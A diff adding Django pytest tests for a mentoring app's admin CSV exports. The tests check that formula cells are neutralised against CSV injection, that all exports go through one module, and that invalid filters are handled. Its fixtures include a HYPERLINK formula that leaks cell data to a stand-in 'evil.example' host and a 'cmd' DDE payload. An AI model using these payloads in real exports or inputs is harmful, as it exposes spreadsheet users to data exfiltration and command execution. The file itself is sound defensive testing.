@@ -1,0 +1,242 @@
+"""Spreadsheet exports: no cell a person typed runs as a formula (OWASP CSV injection),
+every export is written through ``mentoring.exports`` and validates its filters like the
+change list it comes from."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from decimal import Decimal
+from pathlib import Path
+
+import pytest
+from django.apps import apps
+from django.contrib import admin
+from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
+from django.db import models
+from django.db.models import F, Value
+from django.db.models.functions import Concat, Left
+from django.test import Client, RequestFactory
+from django.urls import reverse
+
+from flash_meetings.models import FlashMeeting
+from mentoring.exports import spreadsheet_safe
+from surveys.models import SurveyResponse
+from tests.admin_scoping import conftest as scoping
+from tests.surveys import factories as survey_factories
+from tests.surveys.conftest import ANYTHING, TALKED, USEFUL
+
+pytestmark = pytest.mark.django_db
+
+# The two-program world of tests/admin_scoping (Alpha's program admin, a superuser).
+_module_world = scoping._module_world
+world = scoping.world
+
+PROJECT_APPS = ("mentoring", "notifications", "matching", "flash_meetings", "surveys", "portal")
+ROOT = Path(__file__).resolve().parents[2]
+HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
+DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00")
+
+
+def _cells(response) -> list[list[str]]:
+    content = b"".join(response.streaming_content) if response.streaming else response.content
+    return list(csv.reader(io.StringIO(content.decode())))
+
+
+def _formula_cells(rows: list[list[str]]) -> list[str]:
+    return [
+        cell
+        for row in rows
+        for cell in row
+        if cell.startswith(DANGEROUS) or cell.lstrip().startswith(("=", "+", "-", "@"))
+    ]
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),  # text that looks like a number is still text someone typed
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("\n=1", "'\n=1"),
+        ("\x00=1", "'\x00=1"),
+        ("   =cmd|' /C calc'!A0", "'   =cmd|' /C calc'!A0"),  # after leading white space
+        ("\u00a0=1", "'\u00a0=1"),
+        (HYPERLINK, "'" + HYPERLINK),
+        ("a=1", "a=1"),
+        ("Career change", "Career change"),
+        ("", ""),
+        (None, ""),
+        (-5, -5),  # numbers our code writes stay numbers
+        (3.5, 3.5),
+        (Decimal("-1.5"), Decimal("-1.5")),
+        (True, "True"),
+    ],
+)
+def test_spreadsheet_safe_neutralises_text_and_keeps_numbers(value, expected):
+    assert spreadsheet_safe(value) == expected
+
+
+def test_a_separator_or_quote_inside_an_answer_cannot_start_a_new_cell(admin_client):
+    program = survey_factories.ProgramFactory()
+    meeting = survey_factories.meeting(program=program, status=FlashMeeting.Status.COMPLETED)
+    crafted = 'fine","=1+1\n=2+2;=3+3'
+    survey_factories.answer(meeting, meeting.mentee, {USEFUL: 4, TALKED: crafted})
+    rows = _cells(admin_client.get(reverse("admin:surveys_surveyresponse_export")))
+    header, row = rows
+    assert row[header.index(TALKED)] == crafted  # one cell, as typed, starting harmlessly
+    assert _formula_cells(rows) == []
+
+
+def test_a_formula_answer_comes_out_neutralised_in_the_survey_export(admin_client):
+    program = survey_factories.ProgramFactory(name="-Program")
+    meeting = survey_factories.meeting(
+        program=program, status=FlashMeeting.Status.COMPLETED, topic="@topic"
+    )
+    survey_factories.answer(meeting, meeting.mentee, {USEFUL: 5, TALKED: HYPERLINK, ANYTHING: "+1"})
+    response = admin_client.get(reverse("admin:surveys_surveyresponse_export"))
+    assert response.status_code == 200
+    rows = _cells(response)
+    header, row = rows
+    assert row[header.index(TALKED)] == "'" + HYPERLINK
+    assert row[header.index(ANYTHING)] == "'+1"
+    assert row[header.index("Program")] == "'-Program"
+    assert row[header.index("Meeting topic")] == "'@topic"
+    assert row[header.index(USEFUL)] == "5"
+    assert row[header.index("Response")] == str(SurveyResponse.objects.get().pk)
+    assert _formula_cells(rows) == []
+
+
+# --- every export goes through mentoring.exports --------------------------------------------
+
+
+def test_no_module_but_mentoring_exports_writes_csv():
+    """A new export that writes CSV itself fails here: use ``mentoring.exports``."""
+    offenders = []
+    pattern = re.compile(
+        r"^\s*(import csv|from csv import)|text/csv|\.xlsx|openpyxl|xlsxwriter", re.MULTILINE
+    )
+    for app in PROJECT_APPS:
+        for path in (ROOT / app).rglob("*.py"):
+            if path.relative_to(ROOT).as_posix() == "mentoring/exports.py":
+                continue
+            if pattern.search(path.read_text()):
+                offenders.append(path.relative_to(ROOT).as_posix())
+    assert offenders == []
+
+
+def _plant_formulas() -> None:
+    """Every free-text column of every row of the project's tables starts with '='."""
+    for app in PROJECT_APPS:
+        for model in apps.get_app_config(app).get_models():
+            for field in model._meta.concrete_fields:
+                if not isinstance(field, models.CharField | models.TextField) or field.choices:
+                    continue
+                if field.name == "password":
+                    continue  # signed-in sessions are bound to it
+                value = Concat(Value("=1+"), F(field.name), output_field=field)
+                if field.max_length:
+                    value = Left(value, field.max_length)
+                model._default_manager.update(**{field.name: value})
+
+
+_STANDARD_URL_NAMES = {"changelist", "add", "history", "delete", "change"}
+
+
+def _custom_admin_urls(model_admin, pks: list) -> list[str]:
+    """The admin's own URLs beyond Django's standard ones, filled with an object's id."""
+    info = f"{model_admin.model._meta.app_label}_{model_admin.model._meta.model_name}_"
+    urls = []
+    for pattern in model_admin.get_urls():
+        name = pattern.name or ""
+        if not name.startswith(info) or name.removeprefix(info) in _STANDARD_URL_NAMES:
+            continue
+        converters = list(pattern.pattern.converters)
+        if converters and not pks:
+            continue
+        urls.append(reverse(f"admin:{name}", kwargs=dict.fromkeys(converters, pks[0])))
+    return urls
+
+
+def test_every_csv_the_admin_serves_has_no_formula_cell(client, world):
+    """Every action and every custom URL of every registered admin, as a superuser and as
+    a program admin, with a formula planted in every text column: whatever comes back as
+    CSV has no cell a spreadsheet would run. At least the survey export must be found."""
+    survey_factories.answer(
+        survey_factories.meeting(
+            program=world.alpha.program,
+            status=FlashMeeting.Status.COMPLETED,
+            mentor_user=world.alpha.mentor,
+            mentee_user=world.alpha.mentee,
+        ),
+        world.alpha.mentee,
+        {USEFUL: 3, TALKED: "typed"},
+    )
+    _plant_formulas()
+    csv_sources, failures = set(), []
+    for user in (world.superuser, world.alpha_admin):
+        client.force_login(user)
+        for model, model_admin in admin.site._registry.items():
+            request = _request(user)
+            if not model_admin.has_view_permission(request):
+                continue
+            pks = list(model_admin.get_queryset(request).values_list("pk", flat=True)[:50])
+            changelist = reverse(
+                f"admin:{model._meta.app_label}_{model._meta.model_name}_changelist"
+            )
+            calls = [(url, "get", {}) for url in _custom_admin_urls(model_admin, pks)]
+            calls += [
+                (changelist, "post", {"action": name, ACTION_CHECKBOX_NAME: pks, "index": 0})
+                for name in model_admin.get_actions(request)
+            ]
+            for url, method, data in calls:
+                response = getattr(client, method)(url, data)
+                if not response.get("Content-Type", "").startswith("text/csv"):
+                    continue
+                label = f"{user.username} {method} {url} {data.get('action', '')}"
+                csv_sources.add(f"{method} {url} {data.get('action', '')}".strip())
+                if bad := _formula_cells(_cells(response)):
+                    failures.append(f"{label}: {bad[:3]}")
+    assert failures == []
+    assert {
+        "get /admin/surveys/surveyresponse/export/",
+        "post /admin/surveys/surveyresponse/ export_csv",
+    } <= csv_sources
+
+
+def _request(user):
+    request = RequestFactory().get("/admin/")
+    request.user = user
+    return request
+
+
+# --- exports validate their filters like the change list -----------------------------------
+
+BAD_FILTERS = [
+    {"survey__id__exact": "abc"},
+    {"no_such_field": "1"},
+    {"version__exact": "x", "survey__program__id__exact": "-1x"},
+    {"submitted_at__year": "0"},
+    {"submitted_at__gte": "not a date"},
+    {"respondent__password__startswith": "pbkdf2"},
+]
+
+
+@pytest.mark.parametrize("query", BAD_FILTERS, ids=lambda query: "&".join(query))
+def test_the_survey_export_answers_invalid_filters_as_the_change_list_does(world, query):
+    for user in (world.superuser, world.alpha_admin):
+        client = Client(raise_request_exception=False)
+        client.force_login(user)
+        listing = client.get(reverse("admin:surveys_surveyresponse_changelist"), query)
+        export = client.get(reverse("admin:surveys_surveyresponse_export"), query)
+        assert export.status_code < 500, (user.username, query)
+        assert (export.status_code, export.get("Location")) == (
+            listing.status_code,
+            listing.get("Location"),
+        ), (user.username, query)
+        if export.status_code == 302:
+            assert export["Location"].endswith("?e=1")
